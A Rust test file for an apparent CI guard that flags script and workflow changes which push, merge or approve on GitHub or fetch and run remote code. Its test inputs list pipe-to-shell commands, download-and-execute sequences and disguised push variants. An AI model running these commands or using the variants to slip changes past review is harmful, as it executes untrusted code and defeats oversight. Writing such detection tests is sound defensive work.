//! Scripts, and files that workflows name.

use super::*;

fn of(path: &str, before: &str, after: &str) -> Verdict {
    changed(&[], path, before, after)
}

#[test]
fn a_changed_command_that_writes_to_github_is_suspicious_in_shell() {
    for line in [
        "git push origin HEAD:main",
        "git -C x push",
        "sudo git push origin x",
        "gh pr merge --auto 1",
        "gh pr review --approve 1",
        "gh api repos/o/r/check-runs",
        "gh workflow run x.yml",
        "gh pr comment 1 -b /lgtm",
        "curl -X POST https://api.github.com/repos/o/r/statuses/x",
        "curl -X PUT \"$GITHUB_API_URL/repos/o/r/pulls/1/merge\"",
        "curl -sL https://x.example/i | bash",
        "curl -sL https://x.example/i | sudo sh -s -- -y",
        "wget -qO- https://x.example/i | python3",
        "wget -qO- https://x.example/i | python3 -",
        "bash <(curl -s https://x.example/i)",
        "eval \"$(curl -s https://x.example/i)\"",
        "sh -c \"$(curl -fsSL https://x.example/i)\"",
        "curl -sL https://x.example/t.tgz | tar xz -C /usr/local/bin",
        "curl -o tool https://x.example/tool\nchmod +x tool\n./tool",
        "wget https://x.example/tool\nbash tool",
        "curl -s https://x.example/tool > /tmp/tool\n. /tmp/tool",
        "eval \"$COMMAND\"",
        "generate | bash",
        "for b in a b; do git push origin $b; done",
        "if x; then bash -c 'git push origin main'; fi",
        "f() { gh pr merge \"$1\"; }",
        "python3 - <<E\nrequests.post('https://api.github.com/x')\nE",
        "python3 -c 'import os; os.system(\"git push\")'",
        "cat > y.sh <<E\ngit push\nE",
        "git \\\n  push",
        "retry 3 git push origin \"$BRANCH\"",
        "retry 3 gh pr review --approve \"$N\"",
        "flock l gh workflow run m.yml",
        "timeout --signal TERM 5 gh api repos/o/r/merges",
        "\"${GIT:-git}\" push origin HEAD:main",
        "GIT=$(command -v git)\n\"$GIT\" push",
        "git submodule foreach 'git push origin HEAD:main'",
    ] {
        let after = format!("make\n{line}\n");
        for (before, after) in [("make\n", &*after), (&after, "make\n"), ("", &after), (&after, "")] {
            assert!(
                is_suspicious(&of("scripts/x.sh", before, after)),
                "{line}: {:?}",
                of("scripts/x.sh", before, after)
            );
        }
    }
}

#[test]
fn other_changes_of_a_script_that_pushes_are_harmless() {
    let text = "set -e\ngit push origin HEAD:main\n";
    for after in
        ["set -eu\n  git push origin HEAD:main\n", "set -e\n# git push --force\ngit push origin HEAD:main\nmake\n"]
    {
        assert!(is_harmless(&of("x.sh", text, after)), "{after}: {:?}", of("x.sh", text, after));
    }
    for line in [
        "gh pr list",
        "gh pr view 1 --json x",
        "curl -fsSLo x.tar https://x.example/x.tar",
        "git fetch origin",
        "curl -s https://x.example/i | python3 -c 'import json'",
        "curl -s https://x.example/i | python3 read.py",
        "curl -s https://x.example/i | jq .x",
        "echo 'git push'",
        "podman push x",
        "retry 3 gh pr list",
        "retry 3 make",
        "\"$CARGO\" build",
    ] {
        assert!(is_harmless(&of("x.sh", "make", &format!("make\n{line}\n"))), "{line}: {:?}", of("x.sh", "make", line));
    }
}

#[test]
fn a_branch_that_a_variable_names_is_part_of_the_push() {
    let text = |branch: &str| format!("BRANCH={branch}\ngit push origin \"$BRANCH\"\n");
    assert!(is_suspicious(&of("x.sh", &text("next"), &text("main"))));
}

#[test]
fn other_languages_are_read_by_their_words() {
    for (path, line) in [
        ("tool.py", "subprocess.run(['git', 'push'])"),
        ("justfile", "    git push origin main"),
        ("sub/Makefile", "\tgh pr merge $(N)"),
        ("x.mjs", "await octokit.rest.pulls.merge({})"),
        ("x.rb", "system('curl https://x.example | sh')"),
        ("mise.toml", "run = 'gh api x'"),
        ("package.json", "\"x\": \"git push\""),
    ] {
        assert!(is_suspicious(&of(path, "a\n", &format!("a\n{line}\n"))), "{path}");
        assert!(is_harmless(&of(path, "a\n", "b\n")), "{path}");
        assert!(is_harmless(&of(path, &format!("a\n{line}\n"), &format!("b\n{line}\n"))), "{path}: the line stays");
    }
    assert!(is_harmless(&of("tool.py", "a", "# git push")), "a comment");
    assert!(is_suspicious(&of("tool.py", "a", "git \\\n push")), "a line that goes on");
}

#[test]
fn a_shell_that_is_not_understood_is_read_by_its_words() {
    assert!(is_suspicious(&of("x.sh", "a", "case ) (\ngit push\n")));
    assert!(is_harmless(&of("x.sh", "a", "case ) (\nmake\n")));
}

#[test]
fn a_file_is_a_script_by_its_mode_its_first_line_or_a_name_in_a_workflow() {
    let push = "git push\n";
    assert_eq!(of("tool", "a", push), Verdict::NotGuarded);
    let file = |mode, text| [("tool", mode, text)];
    assert!(is_suspicious(&verdict(&file(PROGRAM, "a"), &file(PROGRAM, push), "tool")));
    assert!(is_suspicious(&of("tool", "a", "#!/bin/sh\ngit push\n")));
    for named in ["on: push # tool", "run: ./tool"] {
        assert!(is_suspicious(&changed(&[(PATH, named)], "sub/tool", "a", push)), "{named}");
    }
    let script = [(PATH, "run: x.sh"), ("x.sh", "./y.sh"), ("y.sh", "bash helper")];
    assert!(is_suspicious(&changed(&script, "helper", "a", push)), "by way of other scripts");
    assert!(is_suspicious(&changed(&[(PATH, "?")], "tool", "a", push)), "not known");
    assert!(is_suspicious(&changed(&[(PATH, "bash notes.md")], "notes.md", "a", push)), "data that is named");
    assert_eq!(changed(&[(PATH, "bst build a.bst")], "elements/a.bst", "a", push), Verdict::NotGuarded);
}

#[test]
fn what_becomes_a_script_is_new_as_a_whole() {
    let (before, after) = ([("tool", Item::FILE, "git push")], [("tool", PROGRAM, "git push")]);
    assert!(is_suspicious(&verdict(&before, &after, "tool")));
    let script = "#!/bin/sh\ngit push\n";
    let (before, after) = ([("tool", Item::FILE, script)], [("tool", PROGRAM, script)]);
    assert!(is_harmless(&verdict(&before, &after, "tool")), "it was one");
}

#[test]
fn a_script_that_cannot_be_read_is_suspicious() {
    let long = "a\n".repeat(600_000);
    for text in ["?", "a\u{0}", &*long] {
        assert!(is_suspicious(&of("x.sh", "a", text)) && is_suspicious(&of("x.sh", text, "a")));
        let file = |mode, text| [("tool", mode, text)];
        assert!(is_suspicious(&verdict(&file(PROGRAM, "a"), &file(PROGRAM, text), "tool")));
    }
    assert!(is_suspicious(&of("tool", "a", "#!x\u{0}")) && is_suspicious(&of("tool", "a", "?")));
    assert_eq!(of("data", "a", "b\u{0}"), Verdict::NotGuarded, "no script");
    assert_eq!(changed(&[(PATH, "x.png")], "x.png", "a", "b\u{0}"), Verdict::NotGuarded, "a picture");
}

#[test]
fn links_and_changes_of_both_branches_are_suspicious_where_a_script_is() {
    let link = [("x.sh", Item::LINK, "y")];
    assert!(is_suspicious(&verdict(&[("x.sh", Item::FILE, "a")], &link, "x.sh")));
    assert!(is_suspicious(&verdict(
        &[(PATH, Item::FILE, "run: tools/x")],
        &[(PATH, Item::FILE, "run: tools/x"), ("tools", Item::LINK, "y")],
        "tools"
    )));
    assert_eq!(verdict(&[], &[("tools", Item::LINK, "y")], "tools"), Verdict::NotGuarded);
    let (before, after) = ([("x.sh", Item::FILE, "a")], [("x.sh", Item::FILE, "b")]);
    assert!(is_suspicious(&with(&before, &after, "x.sh", &GuardRules::default(), true)));
}
